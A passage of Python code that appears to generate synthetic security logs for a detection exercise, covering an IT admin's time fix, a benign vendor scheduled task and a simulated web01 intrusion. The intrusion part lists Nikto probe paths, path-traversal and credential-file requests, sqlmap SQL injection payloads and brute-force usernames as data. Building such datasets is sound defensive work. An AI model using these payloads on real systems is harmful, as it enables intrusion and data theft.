        tt = t + timedelta(seconds=30 + k * rng.uniform(500, 900))
        dc_preauth_failed(tt, u, h.ip, "0x25", rng)
        conn(tt - timedelta(milliseconds=5), h.ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
             "krb_tcp", 0.004, 288, 201)
    d.activity(t + timedelta(minutes=1), at(THU, 9, 25), 4)
    # 09:31 it_admin comes by: over-the-shoulder elevation, then resets the time configuration
    t = at(THU, 9, 31, 20.2)
    lid = h.logon(t, "it_admin", 11, src_ip="127.0.0.1", workstation="WS02",
                  proc_name=r"C:\Windows\System32\consent.exe", proc_id="0x2f4c", elevated=True)
    h.special_privs(t + timedelta(milliseconds=2), "it_admin", lid)
    admin_cmd = h.proc(t + timedelta(seconds=2.2), r"C:\Windows\System32\cmd.exe",
                       r'"C:\Windows\system32\cmd.exe" ', d.explorer, user="CORP\\it_admin", il="High",
                       meta=msmeta("Windows Command Processor", "Cmd.Exe"))
    admin_cmd.logon_id = lid
    h.proc(t + timedelta(seconds=41.5), r"C:\Windows\System32\w32tm.exe", "w32tm  /query /status",
           admin_cmd, meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
    h.proc(t + timedelta(seconds=88.1), r"C:\Windows\System32\w32tm.exe",
           "w32tm  /config /syncfromflags:domhier /update", admin_cmd,
           meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
    t_fix = t + timedelta(seconds=101.7)
    h.proc(t_fix, r"C:\Windows\System32\w32tm.exe", "w32tm  /resync /force", admin_cmd,
           meta=msmeta("Time Service Diagnostic Tool", "w32tm.exe"))
    conn(t_fix + timedelta(seconds=0.2), h.ip, 123, IP["DC01"], 123, "udp", "ntp", 0.0009, 48, 48)
    old = t_fix + timedelta(seconds=0.4) - SKEW
    new = t_fix + timedelta(seconds=0.4)
    h.emit(t_fix + timedelta(seconds=0.4), 1, KERNEL_GENERAL, {
        "NewTime": new.strftime("%Y-%m-%dT%H:%M:%S.") + f"{new.microsecond:06d}000Z",
        "OldTime": old.strftime("%Y-%m-%dT%H:%M:%S.") + f"{old.microsecond:06d}000Z",
        "Reason": "1"},
        message=f"The system time has changed to \u200e{new:%Y}\u200e-\u200e{new:%m}\u200e-\u200e{new:%d}"
                f"T{new:%H:%M:%S}.{new.microsecond:06d}000Z from \u200e{old:%Y}\u200e-\u200e{old:%m}"
                f"\u200e-\u200e{old:%d}T{old:%H:%M:%S}.{old.microsecond:06d}000Z.\r\n\r\nChange Reason: "
                "An application or system component changed the time.", task="1")
    h.emit(t_fix + timedelta(seconds=0.6), 35, W32TIME, {
        "TimeSource": "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123)"},
        message="The time service is now synchronizing the system time with the time source "
                "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123) with reference id 168946186. "
                "Current local stratum number is 4.", task="0")
    h.emit(t_fix + timedelta(seconds=0.7), 37, W32TIME, {"TimeProvider": "NtpClient",
                                                         "TimeSource": "DC01.corp.local"},
           message="The time provider NtpClient is currently receiving valid time data from "
                   "DC01.corp.local (ntp.d|10.0.2.22:123->10.0.2.10:123).", task="0")
    h.emit(t + timedelta(seconds=140.3), 4647, SEC, {
        "TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin", "TargetDomainName": DOMAIN,
        "TargetLogonId": lid})
    h.logoff(t + timedelta(seconds=141.0), "it_admin", 11, lid)
    # 09:35 tickets work again
    t = at(THU, 9, 35, 2.8)
    dc_tgt(t, u, h.ip, rng)
    dc_tgs(t + timedelta(seconds=0.2), u, "FS01$", h.ip, rng)
    fs_lid = FS01.logon(t + timedelta(seconds=0.25), u, 3, src_ip=h.ip,
                        src_port=str(rng.randint(49700, 65000)), package="Kerberos", lproc="Kerberos")
    conn(t + timedelta(seconds=0.2), h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
         3.1, 6120, 28811)
    STORY_WINDOWS["ws02-skew"] = (at(THU, 7, 51, 12.0), t + timedelta(seconds=0.3))
    # the rest of bob's Thursday is ordinary
    d.activity(at(THU, 9, 40), at(THU, 12, 15), 4)
    d.lock_unlock(at(THU, 12, 15, 30), at(THU, 13, 2, 11))
    d.activity(at(THU, 13, 3), at(THU, 17, 10), 5)
    t_end = at(THU, 17, 14, 9.0)
    d.end(t_end)
    FS01.logoff(t_end + timedelta(seconds=5.1), u, 3, fs_lid)


# --------------------------------------------------------------------------------------------
# Benign look-alike: it_admin creates a vendor update task on WS02 (legitimate), Tuesday
# --------------------------------------------------------------------------------------------

def story_vendor_task() -> None:
    rng = rstream("story-vendor-task")
    h = WS02
    t = at(TUE, 18, 12, 3.5)
    conn(t - timedelta(seconds=0.8), IP["admin"], rng.randint(49700, 65000), h.ip, 3389, "tcp", "ssl",
         611.4, 198_220, 1_604_113)
    dc_ntlm(t - timedelta(milliseconds=20), "it_admin", "ADMIN-PC")
    lid = h.logon(t, "it_admin", 10, src_ip=IP["admin"], src_port=str(rng.randint(49700, 65000)),
                  workstation="ADMIN-PC", elevated=True)
    h.special_privs(t + timedelta(milliseconds=2), "it_admin", lid)
    base = Proc(h.winlogon.guid, h.winlogon.pid, h.winlogon.image, h.winlogon.cmd, "CORP\\it_admin",
                "High", r"C:\Windows\system32" + "\\", lid)
    ui = h.proc(t + timedelta(seconds=2.6), r"C:\Windows\System32\userinit.exe",
                r"C:\Windows\system32\userinit.exe", base,
                meta=msmeta("Userinit Logon Application", "USERINIT.EXE"))
    ex = h.proc(t + timedelta(seconds=3.4), r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", ui,
                meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
    cmd = h.proc(t + timedelta(seconds=74.0), r"C:\Windows\System32\cmd.exe",
                 r'"C:\Windows\system32\cmd.exe" ', ex, meta=msmeta("Windows Command Processor", "Cmd.Exe"))
    inst = r"\\FS01\it$\vendor\VendorUpdater-4.2.1.msi"
    msi = h.proc(t + timedelta(seconds=131.8), r"C:\Windows\System32\msiexec.exe",
                 f'msiexec  /i "{inst}" /qn /norestart', cmd,
                 meta=msmeta("Windows\u00ae installer", "msiexec.exe"))
    conn(t + timedelta(seconds=131.9), h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
         2.4, 3_100, 14_220_118)
    h.filecreate(t + timedelta(seconds=150.2), msi, r"C:\Program Files\Vendor\Updater\vupdate.exe")
    task_cmd = (r'schtasks  /create /tn "VendorUpdater" /tr "\"C:\Program Files\Vendor\Updater\vupdate.exe\" '
                r'--silent" /sc daily /st 03:00 /ru SYSTEM /f')
    h.proc(t + timedelta(seconds=212.5), r"C:\Windows\System32\schtasks.exe", task_cmd, cmd,
           meta=msmeta("Task Scheduler Configuration Tool", "schtasks.exe"))
    h.emit(t + timedelta(seconds=212.7), 4698, SEC, {
        "SubjectUserSid": sid("it_admin"), "SubjectUserName": "it_admin", "SubjectDomainName": DOMAIN,
        "SubjectLogonId": lid, "TaskName": "\\VendorUpdater",
        "TaskContent": "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task version=\"1.2\" xmlns=\"http://"
                       "schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><CalendarTrigger>"
                       "<StartBoundary>2026-03-04T03:00:00</StartBoundary><ScheduleByDay><DaysInterval>1"
                       "</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers><Principals><Principal"
                       " id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel>"
                       "</Principal></Principals><Actions Context=\"Author\"><Exec><Command>C:\\Program "
                       "Files\\Vendor\\Updater\\vupdate.exe</Command><Arguments>--silent</Arguments>"
                       "</Exec></Actions></Task>"})
    h.proc(t + timedelta(seconds=240.1), r"C:\Windows\System32\schtasks.exe",
           'schtasks  /query /tn "VendorUpdater" /v /fo LIST', cmd,
           meta=msmeta("Task Scheduler Configuration Tool", "schtasks.exe"))
    t_end = t + timedelta(seconds=609.0)
    h.emit(t_end, 4647, SEC, {"TargetUserSid": sid("it_admin"), "TargetUserName": "it_admin",
                              "TargetDomainName": DOMAIN, "TargetLogonId": lid})
    h.logoff(t_end + timedelta(seconds=2.2), "it_admin", 10, lid)
    STORY_WINDOWS["vendor-task"] = (t, t_end + timedelta(seconds=2.2))
    # the task then runs nightly at 03:00 (Wed-Fri) as SYSTEM
    for dd in (WED, THU, FRI):
        tt = at(dd, 3, 0, 0.8 + rng.uniform(0, 0.6))
        vu = h.proc(tt, r"C:\Program Files\Vendor\Updater\vupdate.exe",
                    r'"C:\Program Files\Vendor\Updater\vupdate.exe" --silent', h.svc_sched,
                    user="NT AUTHORITY\\SYSTEM", il="System",
                    meta=("4.2.1.0", "Vendor Updater", "Vendor Update Service", "Vendor Software Inc.",
                          "vupdate.exe"))
        conn(tt + timedelta(seconds=1.1), h.ip, rng.randint(49700, 65000), "192.0.2.80", 443, "tcp",
             "ssl", 0.8, 1_290, 4_410)
        h.netconn(tt + timedelta(seconds=1.1), vu, "192.0.2.80", 443, port_name="https",
                  dst_host="updates.vendor.example")


# --------------------------------------------------------------------------------------------
# Linux: RFC 3164 syslog files (Debian 11 rsyslog "traditional" format, no year)
# --------------------------------------------------------------------------------------------

class SyslogFile:
    def __init__(self, host: str):
        self.host = host
        self.lines: list[tuple[datetime, int, str]] = []

    def add(self, t: datetime, tag: str, msg: str) -> None:
        stamp = f"{t:%b} {t.day:>2} {t:%H:%M:%S}"
        self.lines.append((t, len(self.lines), f"{stamp} {self.host} {tag}: {msg}"))

    def write(self, path: str) -> int:
        self.lines.sort(key=lambda x: (x[0].replace(microsecond=0), x[1]))
        with open(path, "w", encoding="utf-8", newline="\n") as fh:
            for _, _, line in self.lines:
                fh.write(line + "\n")
        return len(self.lines)


class Pids:
    """Linux PIDs grow with time (pid_max 4194304): derive them from the clock, never reuse."""

    def __init__(self, base: int, per_sec: float, rng: random.Random):
        self.base, self.per_sec, self.rng, self.used = base, per_sec, rng, set()

    def at(self, t: datetime) -> int:
        p = self.base + int((t - WEEK_START).total_seconds() * self.per_sec) + self.rng.randint(0, 2)
        while p in self.used:
            p += 1
        self.used.add(p)
        return p


WEB_AUTH = SyslogFile("web01")
WEB_SYS = SyslogFile("web01")
BK_SYS = SyslogFile("backup01")
ACCESS: list[tuple[datetime, int, str]] = []

SSHD_MASTER, LOGIND, CRON_D, RSYSLOGD = 612, 455, 498, 401


def cron_job(auth: SyslogFile | None, sysf: SyslogFile, pids: Pids, t: datetime, user: str, uid: int,
             cmd: str, dur: float = 0.4) -> None:
    pid = pids.at(t)
    if auth is not None:
        auth.add(t, f"CRON[{pid}]", f"pam_unix(cron:session): session opened for user {user}(uid={uid}) "
                                    f"by (uid=0)")
    sysf.add(t, f"CRON[{pid}]", f"({user}) CMD ({cmd})")
    if auth is not None:
        auth.add(t + timedelta(seconds=dur), f"CRON[{pid}]",
                 f"pam_unix(cron:session): session closed for user {user}")


def systemd_unit(sysf: SyslogFile, t: datetime, unit: str, desc: str, dur: float,
                 cpu: float | None = None) -> None:
    sysf.add(t, "systemd[1]", f"Starting {desc}...")
    sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"{unit}: Succeeded.")
    if cpu is not None:
        sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"{unit}: Consumed {cpu:.3f}s CPU time.")
    sysf.add(t + timedelta(seconds=dur), "systemd[1]", f"Finished {desc}.")


def linux_daily(sysf: SyslogFile, auth: SyslogFile | None, pids: Pids, rng: random.Random,
                rsyslog_pid: int) -> None:
    for day in range(5):
        d0 = at(day, 0, 0)
        t = d0 + timedelta(seconds=rng.uniform(0.2, 2))
        systemd_unit(sysf, t, "logrotate.service", "Rotate log files", rng.uniform(0.3, 1.2), rng.uniform(0.1, 0.4))
        sysf.add(t + timedelta(seconds=1.4), f"rsyslogd[{rsyslog_pid}]",
                 f'[origin software="rsyslogd" swVersion="8.2102.0" x-pid="{rsyslog_pid}" '
                 f'x-info="https://www.rsyslog.com"] rsyslogd was HUPed')
        systemd_unit(sysf, t + timedelta(seconds=2.1), "man-db.service", "Daily man-db regeneration",
                     rng.uniform(0.4, 2.0))
        systemd_unit(sysf, at(day, 6, 0) + timedelta(minutes=rng.uniform(0, 50)), "apt-daily.service",
                     "Daily apt download activities", rng.uniform(2, 9))
        systemd_unit(sysf, at(day, 6, 6) + timedelta(minutes=rng.uniform(0, 20)),
                     "apt-daily-upgrade.service", "Daily apt upgrade and clean activities",
                     rng.uniform(3, 25), rng.uniform(1.5, 9))
        tt = at(day, 0, 0) + timedelta(hours=rng.uniform(11, 14))
        systemd_unit(sysf, tt, "systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories",
                     rng.uniform(0.02, 0.1))
        for hh in range(24):
            cron_job(auth, sysf, pids, at(day, hh, 17, 1.0 + rng.uniform(0, 0.3)), "root", 0,
                     "cd / && run-parts --report /etc/cron.hourly", rng.uniform(0.01, 0.2))
        cron_job(auth, sysf, pids, at(day, 6, 25, 1.2), "root", 0,
                 "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                 rng.uniform(3, 20))


def ssh_session(pids: Pids, rng: random.Random, t: datetime, user: str, uid: int, src: str,
                method: str, dur: float, session_no: int, sudo_cmds: list[tuple[float, str, str]] = (),
                key_fp: str = "ED25519 SHA256:q7yX0pG2m4cKJ1rZfN8wV3sT6uHbLd9eQaYoPiRtUzc",
                between=None) -> tuple[int, int]:
    """An SSH login on web01 with optional sudo commands: (offset, pwd, command)."""
    pid = pids.at(t)
    port = rng.randint(40000, 64000)
    tag = f"sshd[{pid}]"
    if method == "publickey":
        WEB_AUTH.add(t, tag, f"Accepted publickey for {user} from {src} port {port} ssh2: {key_fp}")
    else:
        WEB_AUTH.add(t, tag, f"Accepted password for {user} from {src} port {port} ssh2")
    WEB_AUTH.add(t, tag, f"pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)")
    WEB_AUTH.add(t, f"systemd-logind[{LOGIND}]", f"New session {session_no} of user {user}.")
    WEB_SYS.add(t, "systemd[1]", f"Started Session {session_no} of user {user}.")
    for off, pwd, cmd in sudo_cmds:
        ts = t + timedelta(seconds=off)
        WEB_AUTH.add(ts, "sudo", f"{user:>8} : TTY=pts/0 ; PWD={pwd} ; USER=root ; COMMAND={cmd}")
        WEB_AUTH.add(ts, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by "
                                 f"{user}(uid={uid})")
        if between is not None:
            between(ts, cmd)
        if not cmd.endswith("/bin/bash"):
            WEB_AUTH.add(ts + timedelta(seconds=rng.uniform(0.2, 3)), "sudo",
                         "pam_unix(sudo:session): session closed for user root")
    te = t + timedelta(seconds=dur)
    WEB_AUTH.add(te, tag, f"Received disconnect from {src} port {port}:11: disconnected by user")
    WEB_AUTH.add(te, tag, f"Disconnected from user {user} {src} port {port}")
    WEB_AUTH.add(te, tag, f"pam_unix(sshd:session): session closed for user {user}")
    WEB_AUTH.add(te, f"systemd-logind[{LOGIND}]", f"Session {session_no} logged out. Waiting for "
                                                  f"processes to exit.")
    WEB_AUTH.add(te, f"systemd-logind[{LOGIND}]", f"Removed session {session_no}.")
    WEB_SYS.add(te, "systemd[1]", f"session-{session_no}.scope: Succeeded.")
    conn(t - timedelta(seconds=rng.uniform(0.3, 0.9)), src, port, IP["web01"], 22, "tcp", "ssh",
         dur + 1.0, rng.randint(3000, 40000), rng.randint(4000, 90000))
    return pid, port


SESSION_NO = [40]


def next_session() -> int:
    SESSION_NO[0] += 1
    return SESSION_NO[0]


def web01_background(pids: Pids) -> None:
    rng = rstream("web01-background")
    linux_daily(WEB_SYS, WEB_AUTH, pids, rng, RSYSLOGD)
    for day in range(5):
        # apt talks to the Debian mirror every morning
        conn(at(day, 6, 15) + timedelta(minutes=rng.uniform(0, 30)), IP["web01"], rng.randint(40000, 60000),
             DEBIAN_MIRROR, 80, "tcp", "http", rng.uniform(0.8, 4), rng.randint(900, 3000),
             rng.randint(40_000, 2_000_000))
        # the web team deploys from the admin workstation (publickey) and reloads Apache via sudo
        for hh, mm in ((10, 5), (15, 20)):
            if day in (TUE, THU) and hh == 15:
                continue
            t = at(day, hh, mm) + timedelta(minutes=rng.uniform(0, 35))
            ssh_session(pids, rng, t, "deploy", 1001, IP["admin"], "publickey", rng.uniform(120, 700),
                        next_session(), [(rng.uniform(60, 100), "/srv/www", "/usr/bin/systemctl reload apache2")],
                        between=lambda ts, cmd: (WEB_SYS.add(ts + timedelta(seconds=0.1), "systemd[1]",
                                                             "Reloading The Apache HTTP Server..."),
                                                 WEB_SYS.add(ts + timedelta(seconds=0.3), "systemd[1]",
                                                             "Reloaded The Apache HTTP Server.")))
        # web01 resolves through a public resolver
        for _ in range(6):
            t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
            if t.hour % 6 == 0 and 2 <= t.minute <= 12 or at(TUE, 2, 0) <= t <= at(TUE, 2, 50) \
                    or at(WED, 1, 5) <= t <= at(WED, 1, 25):
                continue  # keep the labelled attack windows free of unrelated web01 flows
            conn(t, IP["web01"],
                 rng.randint(30000, 60000), DNS_FORWARDER, 53, "udp", "dns", rng.uniform(0.005, 0.03),
                 rng.randint(30, 60), rng.randint(60, 200))


# --------------------------------------------------------------------------------------------
# Apache combined access log on web01
# --------------------------------------------------------------------------------------------

SITE = {"/": 8123, "/about.html": 5412, "/contact.html": 4390, "/news.html": 7011,
        "/assets/css/site.css": 18231, "/assets/js/app.js": 40211, "/img/logo.png": 9310,
        "/img/hero.jpg": 184223, "/favicon.ico": 1150, "/robots.txt": 64, "/sitemap.xml": 1298}
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36 Edg/133.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36",
]
BOTS = [("66.249.66.%d", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("40.77.167.%d", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)")]
SITE_HOST = "www.example.com"


def access(t: datetime, ip: str, method: str, path: str, status: int, size: int, ref: str, ua: str,
           proto: str = "HTTP/1.1") -> None:
    stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
    sz = "-" if size == 0 else str(size)
    ACCESS.append((t, len(ACCESS), f'{ip} - - [{stamp}] "{method} {path} {proto}" {status} {sz} '
                                   f'"{ref}" "{ua}"'))


def web_background() -> None:
    rng = rstream("web-background")
    clients = [f"192.0.2.{i}" for i in rng.sample(range(2, 254), 70)]
    for day in range(5):
        # ~30 human visits a day, mostly in (European) business hours, a few at night
        for _ in range(rng.randint(7, 10)):
            hour = rng.choices(range(24), weights=[1, 1, 1, 1, 1, 1, 2, 4, 7, 9, 9, 8, 7, 8, 9, 9, 8, 6,
                                                   4, 3, 3, 2, 2, 1])[0]
            t = at(day, hour, 0) + timedelta(seconds=rng.uniform(0, 3599))
            if at(TUE, 2, 0) <= t <= at(TUE, 2, 55):
                continue  # keep the attack window to the attacker (it was quiet that night)
            ip, ua = rng.choice(clients), rng.choice(BROWSERS)
            base = f"https://{SITE_HOST}"
            pages = rng.choices(["/", "/about.html", "/contact.html", "/news.html", "/products.php"],
                                weights=[5, 2, 2, 2, 4], k=rng.randint(1, 4))
            ref = rng.choice(["-", "https://www.google.com/", "https://www.bing.com/", "-"])
            sport = rng.randint(40000, 64000)
            t0 = t
            for i, pg in enumerate(pages):
                if pg == "/products.php":
                    pg = f"/products.php?id={rng.randint(1, 12)}"
                    size = rng.randint(6000, 9500)
                else:
                    size = SITE[pg]
                access(t, ip, "GET", pg, 200, size, ref, ua)
                if i == 0:
                    for a in ("/assets/css/site.css", "/assets/js/app.js", "/img/logo.png", "/img/hero.jpg"):
                        t += timedelta(seconds=rng.uniform(0.05, 0.4))
                        access(t, ip, "GET", a, 200, SITE[a], base + pg, ua)
                    if rng.random() < 0.5:
                        access(t + timedelta(seconds=0.3), ip, "GET", "/favicon.ico", 200, 1150, base + pg, ua)
                    if rng.random() < 0.12:
                        access(t + timedelta(seconds=0.35), ip, "GET", "/apple-touch-icon.png", 404, 437, "-", ua)
                ref = base + pg.split("?")[0]
                t += timedelta(seconds=rng.uniform(8, 120))
            conn(t0 - timedelta(seconds=0.2), ip, sport, IP["web01"], 443, "tcp", "ssl",
                 (t - t0).total_seconds() + rng.uniform(1, 5), rng.randint(2000, 9000),
                 rng.randint(20_000, 300_000))
        # crawlers
        for _ in range(rng.randint(3, 6)):
            fmt_ip, ua = rng.choice(BOTS)
            ip = fmt_ip % rng.randint(1, 250)
            t = at(day, 0, 0) + timedelta(seconds=rng.uniform(0, 86000))
            if at(TUE, 2, 0) <= t <= at(TUE, 2, 55):
                continue
            sport = rng.randint(40000, 64000)
            access(t, ip, "GET", "/robots.txt", 200, 64, "-", ua)
            for pg in rng.sample(["/", "/about.html", "/news.html", "/sitemap.xml", "/old/catalog.html"], 3):
                t += timedelta(seconds=rng.uniform(1, 20))
                access(t, ip, "GET", pg, 404 if pg.startswith("/old") else 200,
                       437 if pg.startswith("/old") else SITE[pg], "-", ua)
            conn(t - timedelta(seconds=30), ip, sport, IP["web01"], 443, "tcp", "ssl", 31.0,
                 rng.randint(1500, 3000), rng.randint(10_000, 30_000))


# --------------------------------------------------------------------------------------------
# Story: intrusion on web01 (malicious), Tue 02:05 .. 02:47 + persistence until Friday
# --------------------------------------------------------------------------------------------

NIKTO_PATHS = [
    ("/", 200, 8123), ("/robots.txt", 200, 64), ("/wp-login.php", 404, 437), ("/wp-admin/", 404, 437),
    ("/xmlrpc.php", 404, 437), ("/.env", 404, 437), ("/.git/HEAD", 404, 437), ("/.git/config", 404, 437),
    ("/.htaccess", 403, 438), ("/.htpasswd", 403, 438), ("/server-status", 403, 438),
    ("/phpmyadmin/", 404, 437), ("/pma/", 404, 437), ("/admin/", 404, 437), ("/admin.php", 404, 437),
    ("/administrator/", 404, 437), ("/login.php", 404, 437), ("/config.php.bak", 404, 437),
    ("/backup.zip", 404, 437), ("/backup.tar.gz", 404, 437), ("/db.sql", 404, 437), ("/dump.sql", 404, 437),
    ("/.DS_Store", 404, 437), ("/icons/README", 200, 5108), ("/icons/", 403, 438), ("/cgi-bin/", 403, 438),
    ("/cgi-bin/test-cgi", 404, 437), ("/cgi-bin/printenv", 404, 437), ("/shell.php", 404, 437),
    ("/info.php", 404, 437), ("/phpinfo.php", 404, 437), ("/test.php", 404, 437),
    ("/../../etc/passwd", 400, 226), ("/index.php?page=../../../../etc/passwd", 404, 437),
    ("/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", 200, 8123), ("/manager/html", 404, 437),
    ("/jmx-console/", 404, 437), ("/solr/admin/", 404, 437), ("/console/", 404, 437),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 437), ("/actuator/env", 404, 437),
    ("/.aws/credentials", 404, 437), ("/wp-config.php.bak", 404, 437), ("/config.json", 404, 437),
    ("/web.config", 404, 437), ("/WEB-INF/web.xml", 404, 437), ("/crossdomain.xml", 404, 437),
    ("/clientaccesspolicy.xml", 404, 437), ("/sitemap.xml", 200, 1298), ("/old/", 404, 437),
    ("/uploads/", 404, 437), ("/images/", 404, 437), ("/includes/", 404, 437), ("/tmp/", 404, 437),
    ("/logs/", 404, 437), ("/api/", 404, 437), ("/user/login", 404, 437), ("/joomla/", 404, 437),
    ("/drupal/", 404, 437), ("/mambo/", 404, 437), ("/cms/", 404, 437), ("/portal/", 404, 437),
    ("/webdav/", 404, 437), ("/~root/", 404, 437), ("/scripts/", 404, 437), ("/examples/", 404, 437),
    ("/docs/", 404, 437), ("/INSTALL", 404, 437), ("/README.md", 404, 437), ("/CHANGELOG.txt", 404, 437),
    ("/composer.json", 404, 437), ("/package.json", 404, 437), ("/.svn/entries", 404, 437),
    ("/.bash_history", 404, 437), ("/id_rsa", 404, 437), ("/server-info", 403, 438),
    ("/cgi-bin/php", 404, 437), ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, 226),
    ("/index.php?option=com_content", 404, 437), ("/contact.html", 200, 4390), ("/about.html", 200, 5412),
]
SQLMAP_PAYLOADS = [
    "1", "1%27", "1%22", "1%29%28%2C%22.%27%28.%27", "1%27%20OR%201%3D1--%20", "1%20AND%205723%3D5723",
    "1%20AND%205723%3D8104", "1%27%20AND%205723%3D5723%20AND%20%27wXqB%27%3D%27wXqB",
    "1%27%20AND%205723%3D8104%20AND%20%27wXqB%27%3D%27wXqB", "1%20ORDER%20BY%201--%20",
    "1%20ORDER%20BY%2010--%20", "1%20UNION%20ALL%20SELECT%20NULL--%20",
    "1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20", "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20",
    "1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20",
    "1%20AND%20%28SELECT%202741%20FROM%20%28SELECT%28SLEEP%285%29%29%29QkTn%29",
    "1%27%20AND%20%28SELECT%202741%20FROM%20%28SELECT%28SLEEP%285%29%29%29QkTn%29--%20",
    "1%3BSELECT%20PG_SLEEP%285%29--", "1%20AND%20EXTRACTVALUE%288211%2CCONCAT%280x5c%2C0x71%29%29",
    "1%20OR%201%3D1", "-1%20OR%201%3D1--%20", "1%27%29%20OR%20%28%271%27%3D%271",
    "1%20AND%20GTID_SUBSET%28CONCAT%280x71%2C0x71%29%2C1%29", "1%20RLIKE%20%28SELECT%201%29",
]
ATTACKER_KEY = ("ssh-rsa " + base64.b64encode(
    b"\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01\x00\x00\x01\x81\x00"
    + b"".join(hashlib.sha512(b"lookout-demo-attacker-key-%d" % i).digest() for i in range(6))).decode()
    + " root@kali")
BRUTE_USERS = ["admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "ftpuser", "pi", "guest",
               "support", "webadmin", "mysql", "jenkins", "ansible", "dev", "backup", "tomcat", "hadoop",
               "nagios", "minecraft", "steam", "vagrant", "docker", "administrator", "www", "user1",
               "test1", "oracle1", "ec2-user", "centos", "debian", "ftp", "operator", "sysadmin", "ts3"]
STORY_LINUX: dict[str, tuple[datetime, datetime]] = {}
CRON_BEACONS: list[datetime] = []


def story_web01(pids: Pids) -> None:
    rng = rstream("story-web01")
    A = ATTACKER
    # 02:05 Nikto (T1595.002) on port 80
    t = at(TUE, 2, 5, 11.0)
    t_first = t
    sport = rng.randint(40000, 64000)
    nconn_start = t
    for i, (path, status, size) in enumerate(NIKTO_PATHS):
        ua = f"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{'Port Check' if i == 0 else f'{i:06d}'})"
        access(t, A, "GET", path, status, size, "-", ua)
        if i % 12 == 11:
            conn(nconn_start, A, sport, IP["web01"], 80, "tcp", "http", (t - nconn_start).total_seconds() + 0.3,
                 12 * 210, 12 * 520)
            nconn_start, sport = t + timedelta(seconds=0.2), rng.randint(40000, 64000)
        t += timedelta(seconds=rng.uniform(0.6, 2.6))
    access(t, A, "GET", "/products.php?id=1'%20OR%201=1--", 500, 611, "-", "curl/7.88.1")
    conn(t, A, rng.randint(40000, 64000), IP["web01"], 80, "tcp", "http", 0.21, 112, 805)
    # 02:08 sqlmap against the products page (T1190); the app errors on quotes but is not injectable
    t = at(TUE, 2, 8, 51.0)
    sport, s0 = rng.randint(40000, 64000), t
    for i, pl in enumerate(SQLMAP_PAYLOADS):
        status = 500 if ("%27" in pl or "%22" in pl or "%3B" in pl) else 200
        size = 611 if status == 500 else (8012 if pl in ("1", "1%20AND%205723%3D5723") else 3190)
        access(t, A, "GET", f"/products.php?id={pl}", status, size, "-", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        t += timedelta(seconds=rng.uniform(0.8, 3.2) + (5.0 if "SLEEP" in pl else 0))
    conn(s0, A, sport, IP["web01"], 80, "tcp", "http", (t - s0).total_seconds(), 9_830, 121_400)
    # 02:11 SSH password brute force (T1110.001), hydra-like, one task
    t = at(TUE, 2, 11, 5.0)
    attempts = 0
    seq = []
    for i in range(150):
        seq.append(rng.choice(BRUTE_USERS) if rng.random() < 0.55 else "root")
    seq += ["deploy", "deploy", "deploy"]
    for j, user in enumerate(seq):
        pid = pids.at(t)
        port = rng.randint(32768, 60999)
        tag = f"sshd[{pid}]"
        k = 3 if user == "root" else rng.randint(2, 3)
        last = j == len(seq) - 1
        c0 = t
        if user in ("root", "deploy"):
            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                 f"ruser= rhost={A}  user={user}")
        else:
            WEB_AUTH.add(t, tag, f"Invalid user {user} from {A} port {port}")
            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): check pass; user unknown")
            WEB_AUTH.add(t, tag, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                 f"ruser= rhost={A}")
        if last:
            # hydra's third guess for deploy in this connection is right: it logs in and leaves
